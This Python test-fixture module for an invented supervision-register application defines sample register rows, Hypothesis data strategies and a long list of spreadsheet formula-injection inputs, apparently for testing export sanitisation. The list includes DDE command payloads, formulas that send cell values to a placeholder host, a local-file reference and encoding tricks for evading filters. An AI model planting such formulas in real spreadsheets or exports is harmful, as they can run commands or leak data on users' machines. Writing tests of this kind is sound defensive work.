"""Invented registers, and the texts somebody once put into a spreadsheet to make it do something."""

from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, date, datetime

from hypothesis import strategies as st

from supdesk.domain.registers import Competence, Period, Register, Row
from supdesk.domain.sessions import Kind, Mode, Presence, State

FIRST_QUARTER = Period(date(2026, 1, 1), date(2026, 3, 31))
COMPILED = datetime(2026, 4, 1, 8, 15, tzinfo=UTC)

BEE = Row(
    session="SD-7Q2F-0001",
    on=date(2026, 1, 14),
    kind=Kind.ONE_TO_ONE,
    mode=Mode.TEAMS,
    state=State.HELD,
    minutes=60,
    supervisor="Ada Example",
    attendee="Bee Sample",
    designation="Practice nurse",
    service="Invented Surgery",
    employer="Example Partnership",
    presence=Presence.PRESENT,
)
CEE = replace(
    BEE,
    session="SD-7Q2F-0002",
    on=date(2026, 2, 3),
    kind=Kind.GROUP,
    mode=Mode.FACE_TO_FACE,
    state=State.CANCELLED,
    minutes=None,
    attendee="Cee O’Specimen",
    designation="",
    presence=Presence.EXPECTED,
)

REGISTER = Register(
    number="R-7Q2F-0001",
    organisation="Example Health Board",
    period=FIRST_QUARTER,
    compiled_at=COMPILED,
    compiled_by="Ada Example",
    rows=(BEE, CEE),
    competence=(Competence("Ada Example", date(2023, 5, 2), "Invented Supervision Course", date(2025, 6, 1)),),
)

FORMULAS = (
    "=1+1",
    "=1+1+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"Bee")',
    '=WEBSERVICE("http://example.invalid/"&A2)',
    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    "=cmd|'/C calc'!'A1'",
    '=DDE("soffice";"file";"A1")',
    "=SUM(A1:A9)",
    "=A1",
    "==1",
    "+1+1",
    "+44 1632 960001",
    "+cmd|' /C calc'!A0",
    "-1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@Bee",
    " =1+1",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060 =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠Bee",
    "−1+1",
    '"=1+1"',
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "x\n=1+1",
    "{=1+1}",
    "%0A=1+1",
    "|=1+1",
    "http://example.invalid/",
    "mailto:bee@example.org",
    "file:///etc/hostname",
    "internal:Sheet1!A1",
    "external:c:\\temp\\foo.xlsx",
    "<r><t>=1+1</t></r>",
    "</t></si><f>1+1</f>",
    "_x003D_1+1",
    "1e999",
    "TRUE",
    "#REF!",
)


def attended_by(names: Sequence[str]) -> Register:
    """A register with one row for each of these names, which are also the service and the course."""
    rows = tuple(replace(BEE, attendee=name, service=name) for name in names)
    competence = tuple(Competence(name, course=name) for name in names)
    return replace(REGISTER, rows=rows, competence=competence)


# What UTF-8 can hold: half of a surrogate pair is no character.
texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=30)
names = texts.filter(bool)
days = st.dates(date(1990, 1, 1), date(2090, 12, 31))
rows = st.builds(
    Row,
    session=names,
    on=days,
    kind=st.sampled_from(Kind),
    mode=st.sampled_from(Mode),
    state=st.sampled_from([state for state in State if state is not State.PLANNED]),
    minutes=st.none() | st.integers(1, 1440),
    supervisor=names,
    attendee=names,
    designation=texts,
    service=texts,
    employer=texts,
    presence=st.sampled_from(Presence),
)
competences = st.builds(
    Competence, supervisor=names, achieved_on=st.none() | days, course=texts, refreshed_on=st.none() | days
)
registers = st.builds(
    Register,
    number=names,
    organisation=texts,
    period=st.builds(Period, first=days, last=days),
    compiled_at=st.datetimes(datetime(2000, 1, 1), datetime(2090, 1, 1), timezones=st.just(UTC)),  # noqa: DTZ001
    compiled_by=texts,
    rows=st.lists(rows, max_size=4).map(tuple),
    competence=st.lists(competences, max_size=2).map(tuple),
    corrects=texts,
)
